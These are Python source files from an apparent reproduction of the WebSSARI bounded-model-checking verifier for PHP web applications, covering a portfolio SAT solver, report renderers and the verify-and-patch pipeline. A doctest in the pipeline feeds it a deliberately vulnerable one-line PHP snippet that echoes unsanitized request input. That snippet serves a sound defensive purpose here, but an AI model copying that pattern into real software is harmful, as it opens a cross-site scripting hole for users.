    out = io.StringIO()
    if comment:
        for line in comment.splitlines():
            out.write(f"c {line}\n")
    out.write(f"p cnf {cnf.num_vars} {cnf.num_clauses}\n")
    for clause in cnf.clauses:
        out.write(" ".join(str(lit) for lit in clause))
        out.write(" 0\n")
    return out.getvalue()


def write_dimacs_file(cnf: CNF, path: str | Path, comment: str | None = None) -> None:
    Path(path).write_text(write_dimacs(cnf, comment=comment))
