"""Deterministic portfolio racing for hard SAT queries.

Most BMC queries are easy; a few blow past any single configuration's
sweet spot.  Rather than tuning one solver for the tail, this module
races diverse configurations — restart strategies, VSIDS/phase seeds,
and plain DPLL as a structural outlier — and takes the first answer.

**Why interleaved, not parallel.**  The audit engine already saturates
the machine with one worker process per file, and those workers are
daemonic (they cannot fork a per-query sub-pool).  So the race is run as
deterministic round-robin time-slicing over *conflict budgets* inside
one process: every racer gets an exponentially growing slice each round,
and the first racer to decide the query within its slice wins
("first-winner-cancels" — later racers in that round never run).  The
schedule depends only on the query and the configuration list, never on
wall-clock, so portfolio verdicts, models, and counters are exactly
reproducible — a property the parity and determinism suites assert.

The primary configuration runs alone first under ``primary_budget``;
queries it decides (the vast majority) never pay for the portfolio.
CDCL racers keep their trail/learned state between slices (incremental
mode resumes the search instead of restarting it), so a budget-exhausted
slice is an investment, not waste; the DPLL racer re-searches each round
under a growing decision cap.

Losing racers' effort is *attributed*, not dropped: the winner's final
:class:`SolverStats` carries ``portfolio_races`` and
``portfolio_wasted_conflicts`` (sum of every loser's conflicts), and
:attr:`PortfolioSolver.last_winner` names the deciding configuration for
the slow-query ledger.
"""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import dataclass

from repro.sat.cnf import CNF
from repro.sat.dpll import IncrementalDPLL
from repro.sat.solver import CDCLSolver, SolveResult, SolverStats, accumulate_stats

__all__ = ["PortfolioConfig", "PortfolioSolver", "default_configs"]


@dataclass(frozen=True)
class PortfolioConfig:
    """One racer: a named solver configuration."""

    name: str
    backend: str = "cdcl"  # "cdcl" | "dpll"
    restart_strategy: str = "geometric"
    seed: int = 0
    phase_saving: bool = True

    def build(self):
        if self.backend == "dpll":
            return IncrementalDPLL()
        return CDCLSolver(
            restart_strategy=self.restart_strategy,
            phase_saving=self.phase_saving,
            seed=self.seed,
        )


def default_configs(
    restart_strategy: str = "geometric", seed: int = 0
) -> tuple[PortfolioConfig, ...]:
    """The stock four-lane portfolio.

    The primary lane inherits the CLI's restart strategy and seed (so
    ``--solver portfolio`` composes with ``--restart-strategy``/
    ``--sat-seed``); the other lanes diverge from it on exactly one axis
    each: the opposite restart flavor, a phase/VSIDS reseed with saved
    phases off, and DPLL as a non-CDCL structural outlier.
    """
    alt = "luby" if restart_strategy == "geometric" else "geometric"
    return (
        PortfolioConfig(
            f"cdcl-{restart_strategy}", restart_strategy=restart_strategy, seed=seed
        ),
        PortfolioConfig(f"cdcl-{alt}", restart_strategy=alt, seed=seed + 1),
        PortfolioConfig(
            "cdcl-agile",
            restart_strategy=restart_strategy,
            seed=seed + 2,
            phase_saving=False,
        ),
        PortfolioConfig("dpll", backend="dpll"),
    )


class PortfolioSolver:
    """Racing facade implementing the incremental-solver surface the BMC
    checker (and :class:`~repro.sat.cache.CachingSatSolver`) uses:
    ``add_formula`` / ``add_clause`` / ``solve(assumptions)``.

    Secondary racers are materialized lazily, on the first query the
    primary fails to decide within ``primary_budget`` conflicts — a file
    whose queries are all easy pays for exactly one solver.
    """

    def __init__(
        self,
        configs: Iterable[PortfolioConfig] | None = None,
        restart_strategy: str = "geometric",
        seed: int = 0,
        primary_budget: int = 512,
        slice_budget: int = 256,
        growth: float = 2.0,
    ) -> None:
        self._configs = tuple(
            configs if configs is not None else default_configs(restart_strategy, seed)
        )
        if not self._configs:
            raise ValueError("portfolio needs at least one configuration")
        self._primary = self._configs[0].build()
        self._primary_budget = primary_budget
        self._slice_budget = slice_budget
        self._growth = growth
        #: Replay log for late-materialized racers.
        self._log: list[CNF | tuple[int, ...]] = []
        #: Secondary racer solvers plus how much of the log each has seen.
        self._racers: list | None = None
        self._synced: list[int] = []
        self.stats = SolverStats()
        #: Name of the configuration that decided the last solve().
        self.last_winner: str | None = None
        #: Whether the last solve() actually raced (primary blew its budget).
        self.last_raced = False

    # -- solver surface ----------------------------------------------------

    def add_formula(self, formula: CNF) -> None:
        self._log.append(formula)
        self._primary.add_formula(formula)

    def add_clause(self, literals: Iterable[int]) -> None:
        lits = tuple(literals)
        self._log.append(lits)
        self._primary.add_clause(lits)

    def export_learned(self, **kwargs) -> list[tuple[list[int], int]]:
        exporter = getattr(self._primary, "export_learned", None)
        return exporter(**kwargs) if exporter is not None else []

    def import_learned(self, records: Iterable[tuple[list[int], int]]) -> int:
        importer = getattr(self._primary, "import_learned", None)
        return importer(records) if importer is not None else 0

    def solve(
        self,
        assumptions: Iterable[int] = (),
        conflict_budget: int | None = None,
    ) -> SolveResult:
        assumptions = tuple(assumptions)
        self.last_raced = False
        self.last_winner = self._configs[0].name
        budget = self._primary_budget
        if conflict_budget is not None:
            budget = min(budget, conflict_budget)
        result = self._primary.solve(assumptions, conflict_budget=budget)
        if result.satisfiable is not None:
            self.stats = result.stats
            return result
        remaining = (
            None if conflict_budget is None else conflict_budget - result.stats.conflicts
        )
        if remaining is not None and remaining <= 0:
            # The caller's own budget is spent: report unknown honestly.
            self.stats = result.stats
            self.last_winner = None
            return result
        return self._race(assumptions, result.stats, remaining)

    # -- the race ----------------------------------------------------------

    def _materialize(self) -> None:
        if self._racers is None:
            self._racers = [cfg.build() for cfg in self._configs[1:]]
            self._synced = [0] * len(self._racers)
        for i, racer in enumerate(self._racers):
            for item in self._log[self._synced[i] :]:
                if isinstance(item, CNF):
                    racer.add_formula(item)
                else:
                    racer.add_clause(item)
            self._synced[i] = len(self._log)

    def _race(
        self,
        assumptions: tuple[int, ...],
        primary_spent: SolverStats,
        remaining: int | None,
    ) -> SolveResult:
        self.last_raced = True
        self._materialize()
        racers = [self._primary] + list(self._racers or [])
        totals: list[dict[str, int]] = [{} for _ in racers]
        accumulate_stats(totals[0], primary_spent)
        round_no = 0
        while True:
            slice_budget = int(self._slice_budget * (self._growth**round_no))
            for i, racer in enumerate(racers):
                budget = slice_budget
                if remaining is not None:
                    budget = min(budget, remaining)
                    if budget <= 0:
                        return self._finish(None, totals, None, assumptions)
                result = racer.solve(assumptions, conflict_budget=budget)
                accumulate_stats(totals[i], result.stats)
                if remaining is not None:
                    remaining -= result.stats.conflicts
                if result.satisfiable is not None:
                    return self._finish(i, totals, result, assumptions)
            round_no += 1

    def _finish(
        self,
        winner: int | None,
        totals: list[dict[str, int]],
        result: SolveResult | None,
        assumptions: tuple[int, ...],
    ) -> SolveResult:
        wasted = sum(
            t.get("conflicts", 0) for i, t in enumerate(totals) if i != winner
        )
        if winner is None:
            # Caller's budget ran dry mid-race: everything was wasted.
            merged: dict[str, int] = {}
            for t in totals:
                for k, v in t.items():
                    if k == "max_decision_level":
                        merged[k] = max(merged.get(k, 0), v)
                    else:
                        merged[k] = merged.get(k, 0) + v
            stats = SolverStats(**merged)
            stats.portfolio_races += 1
            stats.portfolio_wasted_conflicts += wasted
            self.stats = stats
            self.last_winner = None
            return SolveResult(satisfiable=None, stats=stats)
        stats = SolverStats(**totals[winner])
        stats.portfolio_races += 1
        stats.portfolio_wasted_conflicts += wasted
        self.stats = stats
        self.last_winner = self._configs[winner].name
        assert result is not None
        return SolveResult(
            satisfiable=result.satisfiable, model=result.model, stats=stats
        )
