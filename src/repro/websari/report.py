"""Human-readable error reports.

The BMC's key practical advantage over TS (paper §5): counterexample
traces make reports validatable.  ``render_detailed`` prints, for each
error group, the root-cause variable, the introduction locations, the
symptom sites it explains, and one full counterexample trace — the
information that took the authors four working days to reconstruct by
hand from the TS reports.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:  # pragma: no cover
    from repro.websari.pipeline import VerificationReport

__all__ = ["render_summary", "render_detailed"]


def render_summary(report: "VerificationReport") -> str:
    status = "SAFE" if report.safe else "VULNERABLE"
    lines = [
        f"{report.filename}: {status}",
        f"  statements: {report.num_statements}, "
        f"branches: {report.num_ai_branches}, assertions: {report.num_ai_assertions}",
        f"  TS-reported errors: {report.ts_error_count}",
        f"  BMC-reported error groups: {report.bmc_group_count}",
    ]
    if report.ts_error_count:
        saved = report.ts_error_count - report.bmc_group_count
        percent = 100.0 * saved / report.ts_error_count
        lines.append(f"  instrumentation reduction: {saved} ({percent:.1f}%)")
    if report.warnings:
        lines.append(f"  warnings: {len(report.warnings)}")
    return "\n".join(lines)


def render_detailed(report: "VerificationReport") -> str:
    lines = [render_summary(report)]
    if report.safe:
        lines.append("  all assertions verified; no counterexamples exist.")
        return "\n".join(lines)
    vuln_by_assert = {
        r.assert_id: getattr(r.event, "vuln_class", None) for r in report.bmc.assertions
    }
    for group in report.grouping.groups:
        display = f"${group.php_name}" if group.php_name else "<expression>"
        classes = sorted(
            {
                vuln_by_assert[aid].value
                for aid, _fn in group.symptom_sites
                if vuln_by_assert.get(aid) is not None
            }
        )
        lines.append("")
        lines.append(
            f"  GROUP {display}: {len(group.traces)} error trace(s), "
            f"{len(group.symptom_sites)} symptom site(s)"
            + (f" [{', '.join(classes)}]" if classes else "")
        )
        for span in group.introduction_spans:
            lines.append(f"    introduced at {span}")
        for assert_id, function in sorted(group.symptom_sites):
            vuln = vuln_by_assert.get(assert_id)
            label = f" — {vuln.value}" if vuln is not None else ""
            lines.append(f"    reaches sink {function} (assertion #{assert_id}){label}")
        if group.traces:
            lines.append("    example counterexample:")
            for line in group.traces[0].describe().splitlines():
                lines.append(f"      {line}")
        lines.append(
            f"    FIX: sanitize {display} at the introduction point(s) above."
        )
    return "\n".join(lines)
