"""Cross-referenced HTML reports (the paper's PHPXREF role, §5).

Manually validating TS reports took the authors four working days even
after they "added a tool called PHPXREF to generate cross-referenced
HTML documentations of source code".  This module produces the
equivalent artifact for a verification run: a single self-contained HTML
page per file with

* line-numbered, anchor-addressable source,
* every error group as a card linking to its introduction lines and the
  sink lines it explains,
* the counterexample trace rendered step by step, each step linking
  back into the source, and
* per-variable cross-references (every line a fixing variable occurs on).

Everything is plain stdlib string building; output is deterministic.
"""

from __future__ import annotations

import html
import re
from typing import TYPE_CHECKING

if TYPE_CHECKING:  # pragma: no cover
    from repro.websari.pipeline import VerificationReport

__all__ = ["render_html_report"]

_STYLE = """
body { font-family: monospace; margin: 2em; background: #fdfdfd; color: #222; }
h1 { font-size: 1.3em; } h2 { font-size: 1.1em; margin-top: 1.5em; }
.status-safe { color: #0a7d32; font-weight: bold; }
.status-vuln { color: #b00020; font-weight: bold; }
table.source { border-collapse: collapse; width: 100%; }
table.source td { padding: 0 0.6em; vertical-align: top; white-space: pre-wrap; }
td.lineno { text-align: right; color: #999; user-select: none; border-right: 1px solid #ddd; }
tr.intro-line { background: #fff3cd; }
tr.sink-line { background: #f8d7da; }
.group { border: 1px solid #ccc; border-radius: 4px; padding: 0.8em 1em; margin: 1em 0; background: #fff; }
.group h3 { margin: 0 0 0.5em 0; font-size: 1em; }
.trace { color: #555; margin-left: 1em; }
.xref { color: #777; font-size: 0.9em; }
a { color: #0645ad; text-decoration: none; } a:hover { text-decoration: underline; }
.badge { display: inline-block; padding: 0 0.5em; border-radius: 3px; font-size: 0.85em; }
.badge-fix { background: #fff3cd; } .badge-sink { background: #f8d7da; }
"""


def _line_of_span(span) -> int:
    return max(span.start.line, 1)


def render_html_report(report: "VerificationReport", source: str) -> str:
    """Render one file's verification results as a standalone HTML page."""
    lines = source.splitlines()
    intro_lines: set[int] = set()
    sink_lines: set[int] = set()
    for group in report.grouping.groups:
        for span in group.introduction_spans:
            intro_lines.add(_line_of_span(span))
        for trace in group.traces:
            sink_lines.add(_line_of_span(trace.span))
    for violation in report.ts.violations:
        sink_lines.add(_line_of_span(violation.span))

    status_class = "status-safe" if report.safe else "status-vuln"
    status_text = "SAFE" if report.safe else "VULNERABLE"

    out: list[str] = []
    out.append("<!DOCTYPE html><html><head><meta charset='utf-8'>")
    out.append(f"<title>WebSSARI report — {html.escape(report.filename)}</title>")
    out.append(f"<style>{_STYLE}</style></head><body>")
    out.append(f"<h1>WebSSARI report — {html.escape(report.filename)} "
               f"<span class='{status_class}'>{status_text}</span></h1>")
    out.append(
        "<p>"
        f"statements: {report.num_statements} · "
        f"branches: {report.num_ai_branches} · "
        f"assertions: {report.num_ai_assertions} · "
        f"TS errors: {report.ts_error_count} · "
        f"BMC groups: {report.bmc_group_count}"
        "</p>"
    )

    # -- error groups ----------------------------------------------------
    if report.grouping.groups:
        out.append("<h2>Error groups (root causes)</h2>")
    for index, group in enumerate(report.grouping.groups, start=1):
        display = f"${group.php_name}" if group.php_name else "&lt;expression&gt;"
        out.append("<div class='group'>")
        out.append(
            f"<h3>Group {index}: <span class='badge badge-fix'>{display}</span> "
            f"— {len(group.traces)} trace(s), {len(group.symptom_sites)} sink(s)</h3>"
        )
        intro_links = ", ".join(
            f"<a href='#L{_line_of_span(span)}'>line {_line_of_span(span)}</a>"
            for span in group.introduction_spans
        )
        out.append(f"<div>introduced at: {intro_links or 'n/a'}</div>")
        sinks = sorted(
            {(t.function, _line_of_span(t.span)) for t in group.traces},
            key=lambda item: item[1],
        )
        sink_links = ", ".join(
            f"<span class='badge badge-sink'>{html.escape(fn)}</span> "
            f"<a href='#L{line}'>line {line}</a>"
            for fn, line in sinks
        )
        out.append(f"<div>reaches: {sink_links}</div>")
        if group.traces:
            out.append("<div class='trace'>example counterexample:<br>")
            trace = group.traces[0]
            if trace.deciding_branches:
                path = ", ".join(
                    f"{name}={'T' if value else 'F'}"
                    for name, value in sorted(trace.deciding_branches.items())
                )
                out.append(f"path: {html.escape(path)}<br>")
            for step in trace.steps:
                line = _line_of_span(step.span)
                out.append(
                    f"<a href='#L{line}'>L{line}</a> {html.escape(str(step.target))}"
                    f" = {html.escape(str(step.expr))}<br>"
                )
            for violation in trace.violating:
                out.append(f"<b>VIOLATION:</b> {html.escape(str(violation))}<br>")
            out.append("</div>")
        if group.php_name:
            xref_lines = _occurrence_lines(lines, group.php_name)
            if xref_lines:
                links = ", ".join(f"<a href='#L{n}'>{n}</a>" for n in xref_lines)
                out.append(f"<div class='xref'>${html.escape(group.php_name)} occurs on lines: {links}</div>")
        out.append("</div>")

    # -- TS symptom list --------------------------------------------------
    if report.ts.violations:
        out.append("<h2>TS symptom sites (for comparison)</h2><ul>")
        for violation in report.ts.violations:
            line = _line_of_span(violation.span)
            name = violation.php_name or violation.variable
            out.append(
                f"<li><a href='#L{line}'>line {line}</a>: "
                f"{html.escape(violation.function)}(${html.escape(name)})</li>"
            )
        out.append("</ul>")

    # -- annotated source ---------------------------------------------------
    out.append("<h2>Source</h2><table class='source'>")
    for number, text in enumerate(lines, start=1):
        css = ""
        if number in intro_lines:
            css = " class='intro-line'"
        elif number in sink_lines:
            css = " class='sink-line'"
        out.append(
            f"<tr{css}><td class='lineno' id='L{number}'>{number}</td>"
            f"<td>{html.escape(text) or '&nbsp;'}</td></tr>"
        )
    out.append("</table>")
    out.append("<p class='xref'>legend: <span class='badge badge-fix'>introduction "
               "line</span> <span class='badge badge-sink'>sink line</span></p>")
    out.append("</body></html>")
    return "\n".join(out)


def _occurrence_lines(lines: list[str], variable: str) -> list[int]:
    pattern = re.compile(r"\$" + re.escape(variable) + r"\b")
    return [number for number, text in enumerate(lines, start=1) if pattern.search(text)]
