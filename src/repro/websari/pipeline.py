"""WebSSARI: the end-to-end verification and assurance pipeline (Figures 8–9).

``PHP source → filter F(p) → AI → renaming ρ → constraint generation →
SAT → counterexample analysis → (optionally) instrumentation``, with the
TS baseline run alongside for comparison.  :class:`WebSSARI` is the
library's primary entry point:

>>> from repro import WebSSARI
>>> report = WebSSARI().verify_source("<?php echo $_GET['q'];")
>>> report.safe
False
>>> report.bmc_group_count
1
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.ai.renaming import RenamedProgram, rename
from repro.ai.translate import translate_filter_result
from repro.analysis.grouping import GroupingResult, group_errors
from repro.bmc.checker import AccumulatePolicy, BMCResult, check_program
from repro.instrument.instrumentor import (
    InstrumentationResult,
    instrument_bmc,
    instrument_ts,
)
from repro.bmc.checker import SolverBackend
from repro.ir.commands import count_commands
from repro.ir.filter import FilterResult, filter_program
from repro.lattice import FiniteLattice
from repro.obs import get_tracer
from repro.php import ast_nodes as ast
from repro.php.includes import SourceProject, resolve_includes, scan_includes
from repro.php.parsecache import ParseCache
from repro.php.parser import parse
from repro.policy.prelude import Prelude, default_php_prelude
from repro.sat.cache import SatQueryCache
from repro.typestate.ts import TSReport, analyze_commands

__all__ = ["WebSSARI", "VerificationReport", "ProjectReport", "count_statements"]


def count_statements(node) -> int:
    """Number of statements in an AST subtree (the paper's per-project
    "statements" metric)."""
    if isinstance(node, (ast.Program, ast.Block)):
        return sum(count_statements(child) for child in node.statements)
    total = 1
    if isinstance(node, ast.If):
        total += count_statements(node.then)
        for clause in node.elseifs:
            total += count_statements(clause.body)
        if node.orelse is not None:
            total += count_statements(node.orelse)
    elif isinstance(node, (ast.While, ast.Foreach, ast.For)):
        total += count_statements(node.body)
    elif isinstance(node, ast.DoWhile):
        total += count_statements(node.body)
    elif isinstance(node, ast.Switch):
        for case in node.cases:
            total += sum(count_statements(child) for child in case.body)
    elif isinstance(node, ast.FunctionDecl):
        total += count_statements(node.body)
    return total


@dataclass
class VerificationReport:
    """Everything WebSSARI learned about one entry file."""

    filename: str
    ts: TSReport
    bmc: BMCResult
    grouping: GroupingResult
    num_statements: int
    num_ai_branches: int
    num_ai_assertions: int
    warnings: list[str] = field(default_factory=list)

    @property
    def safe(self) -> bool:
        return self.bmc.safe

    @property
    def ts_error_count(self) -> int:
        """TS-reported individual errors (the TS column of Figure 10)."""
        return self.ts.num_violations

    @property
    def bmc_group_count(self) -> int:
        """BMC-reported error introductions (the BMC column of Figure 10)."""
        return self.grouping.num_groups

    def summary(self) -> str:
        from repro.websari.report import render_summary

        return render_summary(self)

    def detailed_report(self) -> str:
        from repro.websari.report import render_detailed

        return render_detailed(self)


@dataclass
class ProjectReport:
    """Aggregated verification results for a multi-file project."""

    reports: list[VerificationReport]
    num_files: int
    num_statements: int

    @property
    def vulnerable_reports(self) -> list[VerificationReport]:
        return [r for r in self.reports if not r.safe]

    @property
    def num_vulnerable_files(self) -> int:
        return len(self.vulnerable_reports)

    @property
    def ts_error_count(self) -> int:
        return sum(r.ts_error_count for r in self.reports)

    @property
    def bmc_group_count(self) -> int:
        return sum(r.bmc_group_count for r in self.reports)

    @property
    def safe(self) -> bool:
        return all(r.safe for r in self.reports)


class WebSSARI:
    """The verifier.  Construct once, reuse across files and projects."""

    def __init__(
        self,
        prelude: Prelude | None = None,
        accumulate: AccumulatePolicy = "safe-only",
        max_counterexamples: int = 256,
        max_unfold_depth: int = 3,
        sanitize_in_place: bool = True,
        solver: SolverBackend = "cdcl",
        sat_cache: "SatQueryCache | None" = None,
        restart_strategy: str = "geometric",
        sat_seed: int = 0,
        sat_incremental: bool = True,
        parse_cache: "ParseCache | None" = None,
        closure_keys: bool = True,
        replay: bool = False,
    ) -> None:
        self.prelude = prelude if prelude is not None else default_php_prelude()
        self.accumulate = accumulate
        self.max_counterexamples = max_counterexamples
        self.max_unfold_depth = max_unfold_depth
        #: Figure-6-faithful in-place sanitizer postconditions; see
        #: repro.ir.filter.ProgramFilter for the soundness caveat.
        self.sanitize_in_place = sanitize_in_place
        #: SAT backend for the BMC engine: "cdcl" (the ZChaff stand-in),
        #: "dpll" (the ablation baseline, markedly slower), or
        #: "portfolio" (racing configurations for budget-blowing queries).
        self.solver = solver
        #: SAT-level query memo shared across every file this verifier
        #: checks (repro.sat.cache); None disables the layer.
        self.sat_cache = sat_cache
        #: CDCL restart schedule ("geometric" | "luby") and VSIDS/phase
        #: seed, threaded into the solver (primary lane in portfolio
        #: mode) and folded into the engine policy fingerprint.
        self.restart_strategy = restart_strategy
        self.sat_seed = sat_seed
        #: Ablation switch for the incremental CDCL machinery (trail /
        #: VSIDS / learned-clause retention across the enumeration and
        #: cross-query lemma exchange).  True is the production default;
        #: False measures the pre-incremental baseline in-process.
        self.sat_incremental = sat_incremental
        #: Content-hash parse memo (repro.php.parsecache) shared by this
        #: verifier and — travelling inside the WorkerSession — every
        #: engine worker it spawns; None disables the layer.
        self.parse_cache = parse_cache
        #: Scope project cache keys and worker task payloads to each
        #: entry's transitive include closure instead of the whole
        #: project (entries with dynamic includes conservatively widen
        #: back).  False restores whole-project keying/shipping.
        self.closure_keys = closure_keys
        #: Concrete witness replay (repro.replay): re-execute every BMC
        #: counterexample through the interpreter with a synthesized
        #: request and record confirmed/refuted/unsupported per trace.
        #: Folded into the engine policy fingerprint.
        self.replay = replay

    @property
    def lattice(self) -> FiniteLattice:
        return self.prelude.lattice  # type: ignore[return-value]

    def attach_persistent_sat_cache(self, cache_root: "str | Path") -> None:
        """Re-home the SAT query cache under ``<cache_root>/sat``.

        No-op when the verifier was built without a SAT cache.  The two
        cache layers are independent: the file-level result cache may be
        disabled while SAT queries still persist (see docs/SOLVER.md).
        Long-running callers (the ``repro watch`` daemon) keep one
        persistent cache alive across every re-audit cycle.
        """
        if self.sat_cache is None:
            return
        from pathlib import Path

        self.sat_cache = SatQueryCache(persist_dir=Path(cache_root) / "sat")

    def attach_persistent_parse_cache(self, cache_root: "str | Path") -> None:
        """Re-home the parse cache under ``<cache_root>/parse``.

        No-op when the verifier was built without a parse cache — same
        contract as :meth:`attach_persistent_sat_cache`.  Workers re-warm
        from the shared directory (the in-memory memo is dropped when the
        cache pickles across the process boundary).
        """
        if self.parse_cache is None:
            return
        from pathlib import Path

        from repro.php.parsecache import ParseCache

        self.parse_cache = ParseCache(persist_dir=Path(cache_root) / "parse")

    # -- single source ---------------------------------------------------------

    def verify_source(self, source: str, filename: str = "<string>") -> VerificationReport:
        tracer = get_tracer()
        with tracer.span("file", filename=filename):
            with tracer.span("parse"):
                program = parse(source, filename)
            return self.verify_ast(program, filename)

    def verify_ast(self, program: ast.Program, filename: str = "<string>") -> VerificationReport:
        with get_tracer().span("filter"):
            filtered = filter_program(
                program,
                prelude=self.prelude,
                max_unfold_depth=self.max_unfold_depth,
                sanitize_in_place=self.sanitize_in_place,
            )
        return self._verify_filtered(filtered, count_statements(program), filename)

    def _verify_filtered(
        self, filtered: FilterResult, num_statements: int, filename: str
    ) -> VerificationReport:
        tracer = get_tracer()
        with tracer.span("ai"):
            ts_report = analyze_commands(filtered.commands, lattice=self.lattice)
            ai_program = translate_filter_result(filtered)
            renamed: RenamedProgram = rename(ai_program)
        with tracer.span("sat", backend=self.solver):
            bmc_result = check_program(
                renamed,
                lattice=self.lattice,
                accumulate=self.accumulate,
                max_counterexamples=self.max_counterexamples,
                solver_backend=self.solver,
                sat_cache=self.sat_cache,
                restart_strategy=self.restart_strategy,
                sat_seed=self.sat_seed,
                sat_incremental=self.sat_incremental,
            )
            grouping = group_errors(bmc_result)
        return VerificationReport(
            filename=filename,
            ts=ts_report,
            bmc=bmc_result,
            grouping=grouping,
            num_statements=num_statements,
            num_ai_branches=ai_program.num_branches,
            num_ai_assertions=ai_program.num_assertions,
            warnings=list(ai_program.warnings),
        )

    # -- patching ---------------------------------------------------------------

    def patch_source(
        self, source: str, filename: str = "<string>", strategy: str = "bmc"
    ) -> tuple[VerificationReport, InstrumentationResult]:
        """Verify and insert runtime guards; returns (report, patched).

        ``strategy='bmc'`` patches at error-introduction points (one guard
        per group); ``strategy='ts'`` patches every violating sink
        argument — the two columns of Figure 10.
        """
        report = self.verify_source(source, filename)
        if strategy == "bmc":
            patched = instrument_bmc(source, report.grouping, filename)
        elif strategy == "ts":
            patched = instrument_ts(source, report.ts, filename)
        else:
            raise ValueError(f"unknown strategy {strategy!r} (use 'bmc' or 'ts')")
        return report, patched

    def patch_project(
        self,
        project: SourceProject,
        entries: list[str] | None = None,
        strategy: str = "bmc",
    ) -> tuple["ProjectReport", SourceProject, dict[str, InstrumentationResult]]:
        """Verify and patch every entry of a project.

        Returns the pre-patch report, a new :class:`SourceProject` with
        instrumented sources, and the per-file instrumentation results.
        Files that verified safe are copied through untouched.
        """
        from repro.instrument.instrumentor import (
            apply_edits,
            collect_bmc_edits,
            collect_ts_edits,
        )

        if strategy not in ("bmc", "ts"):
            raise ValueError(f"unknown strategy {strategy!r} (use 'bmc' or 'ts')")
        report = self.verify_project(project, entries=entries)
        originals = {path: project.source(path) for path in project.paths()}
        edits_by_file: dict[str, list] = {path: [] for path in originals}
        results: dict[str, InstrumentationResult] = {}

        for file_report in report.reports:
            if file_report.safe:
                continue
            # A flaw found via this entry may need its guard in another
            # file (e.g. taint introduced inside an include): collect the
            # edits each file wants, against the ORIGINAL sources, and
            # merge; identical edits from overlapping entries deduplicate.
            total_edits = 0
            notes: list[str] = []
            for path, source in originals.items():
                if strategy == "bmc":
                    edits, file_notes = collect_bmc_edits(
                        source, file_report.grouping, path
                    )
                else:
                    edits, file_notes = collect_ts_edits(source, file_report.ts, path)
                edits_by_file[path].extend(edits)
                total_edits += len(edits)
                notes.extend(file_notes)
            results[file_report.filename] = InstrumentationResult(
                source="",  # final text is assembled project-wide below
                num_guards=(
                    file_report.bmc_group_count
                    if strategy == "bmc"
                    else file_report.ts_error_count
                ),
                num_edits=total_edits,
                notes=notes,
            )

        patched_files = {
            path: apply_edits(source, edits_by_file[path])
            for path, source in originals.items()
        }
        for filename, result in results.items():
            result.source = patched_files[filename]
        return report, SourceProject(patched_files), results

    # -- projects -------------------------------------------------------------------

    def verify_project(
        self,
        project: SourceProject,
        entries: list[str] | None = None,
        jobs: int | None = None,
    ) -> ProjectReport:
        """Verify every entry file of a project, resolving includes.

        By default every ``.php`` file is treated as an entry point (the
        way a web server would expose them); pass ``entries`` to restrict.
        With ``jobs`` > 1, entries are fanned over the batch-audit
        engine's worker pool (``repro.engine``); results are identical to
        the sequential path, in the same order.
        """
        paths = entries if entries is not None else project.paths()
        if jobs is not None and jobs > 1:
            return self._verify_project_parallel(project, paths, jobs)
        do_parse = self.parse_cache.parse if self.parse_cache is not None else None
        reports: list[VerificationReport] = []
        total_statements = 0
        for path in paths:
            resolution = resolve_includes(project, path, parse_hook=do_parse)
            program = resolution.program
            assert resolution.entry_program is not None
            own_statements = count_statements(resolution.entry_program)
            total_statements += own_statements
            filtered = filter_program(
                program,
                prelude=self.prelude,
                max_unfold_depth=self.max_unfold_depth,
                sanitize_in_place=self.sanitize_in_place,
            )
            report = self._verify_filtered(filtered, own_statements, path)
            report.warnings.extend(resolution.warnings)
            reports.append(report)
        return ProjectReport(
            reports=reports,
            num_files=len(project),
            num_statements=total_statements,
        )

    def _verify_project_parallel(
        self, project: SourceProject, paths: list[str], jobs: int
    ) -> ProjectReport:
        """Fan entry files over the audit engine's worker pool.

        Each worker resolves includes and verifies one entry, returning
        the full :class:`VerificationReport`.  Analysis failures that the
        sequential path would raise are re-raised here, so the two paths
        have the same contract.

        With :attr:`closure_keys` (the default) each task carries only
        the entry's transitive include closure — computed up front with
        one shared parse pass — so cache keys and pipe payloads scope to
        what the entry can actually read.  Entries whose closure cannot
        be bounded (dynamic includes, unparsable members) fall back to
        the whole project and key on its digest.
        """
        from repro.engine import AuditEngine, AuditTask, EngineConfig
        from repro.engine.worker import project_content_digest

        files = {path: project.source(path) for path in project.paths()}
        tasks: list[AuditTask] = []
        if self.closure_keys:
            # One shared parse pass across every entry's scan: without an
            # attached cache a throwaway in-memory memo still guarantees
            # the prelude parses once during scanning, not once per entry.
            scan_parse = (self.parse_cache or ParseCache()).parse
            whole_digest: str | None = None
            for i, path in enumerate(paths):
                scan = scan_includes(project, path, parse_hook=scan_parse)
                if scan.widened:
                    if whole_digest is None:
                        whole_digest = project_content_digest(files)
                    tasks.append(
                        AuditTask(
                            index=i,
                            filename=path,
                            project_files=files,
                            entry=path,
                            closure_widened=True,
                            project_digest=whole_digest,
                        )
                    )
                else:
                    tasks.append(
                        AuditTask(
                            index=i,
                            filename=path,
                            project_files={p: files[p] for p in sorted(scan.closure)},
                            entry=path,
                        )
                    )
        else:
            tasks = [
                AuditTask(index=i, filename=path, project_files=files, entry=path)
                for i, path in enumerate(paths)
            ]
        engine = AuditEngine(
            websari=self, config=EngineConfig(jobs=jobs, want_reports=True)
        )
        result = engine.run(tasks)
        reports: list[VerificationReport] = []
        total_statements = 0
        for outcome in result.outcomes:
            if outcome.report is None:
                if outcome.status == "frontend-error":
                    from repro.php.errors import FrontendError

                    raise FrontendError(f"{outcome.filename}: {outcome.error}")
                raise RuntimeError(
                    f"{outcome.filename}: {outcome.status}: {outcome.error}"
                )
            reports.append(outcome.report)
            total_statements += outcome.num_statements
        return ProjectReport(
            reports=reports,
            num_files=len(project),
            num_statements=total_statements,
        )
