"""The WebSSARI pipeline: verify, report, and patch PHP web applications."""

from repro.websari.pipeline import (
    ProjectReport,
    VerificationReport,
    WebSSARI,
    count_statements,
)
from repro.websari.report import render_detailed, render_summary

__all__ = [
    "ProjectReport",
    "VerificationReport",
    "WebSSARI",
    "count_statements",
    "render_detailed",
    "render_summary",
]
