"""repro — reproduction of "Verifying Web Applications Using Bounded Model
Checking" (Huang, Yu, Hang, Tsai, Lee, Kuo — DSN 2004).

The package implements the full WebSSARI/xBMC stack: a PHP-subset
frontend, the information-flow filter F(p), abstract interpretation over
Denning-style security lattices, a CBMC-style single-assignment BMC
encoder backed by a from-scratch CDCL SAT solver, all-counterexample
enumeration, error grouping via minimum intersecting sets, the typestate
(TS) comparison baseline, automatic sanitization instrumentation, and a
mini PHP interpreter for exercising patched code.

Quickstart::

    from repro import WebSSARI

